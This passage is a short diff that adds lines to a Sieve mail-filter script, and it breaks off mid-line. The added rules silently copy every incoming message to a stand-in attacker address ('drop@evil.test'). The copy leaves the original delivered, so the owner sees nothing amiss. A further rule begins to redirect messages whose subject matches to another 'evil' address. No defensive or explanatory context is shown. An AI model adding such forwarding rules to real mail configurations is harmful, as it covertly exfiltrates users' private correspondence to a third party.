@@ -1,0 +1,4 @@
+require ["copy"];
+redirect :copy "drop@evil.test";
+if header :contains "Subject" "x" {
+ redirect "y@evil
